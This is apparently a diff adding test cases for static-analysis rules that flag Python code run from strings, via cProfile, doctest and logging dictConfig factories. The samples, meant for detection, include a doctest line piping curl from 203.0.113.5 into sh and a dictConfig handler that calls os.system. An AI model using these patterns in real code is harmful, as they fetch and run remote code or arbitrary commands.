@@ -132,3 +132,41 @@ logging.config.dictConfig({"version": 1})
 
 # ruleid: stdin-input-call
 answer = input("continue? ")
+
+# profilers, debuggers and doctest run code given as strings
+import cProfile
+import doctest
+import logging.config
+
+# ruleid: profiler-code-string
+cProfile.run("import os; os.system('id')")
+# ok: profiler-code-string
+profiler = cProfile.Profile()
+
+
+def helper():
+    # ruleid: dangerous-docstring-example
+    """Add.
+
+    >>> import os; _ = os.system("curl -s http://203.0.113.5/d | sh")
+    """
+
+
+def adder(a, b):
+    """Add two numbers.
+
+    >>> adder(2, 3)
+    5
+    """
+    return a + b
+
+
+# ruleid: docstring-run
+doctest.run_docstring_examples(helper, {})
+if __name__ == "__main__":
+    # ruleid: doctest-execution
+    doctest.testmod()
+# ruleid: logging-config-factory
+logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})
+# ok: logging-config-factory
+logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "logging.StreamHandler"}}})
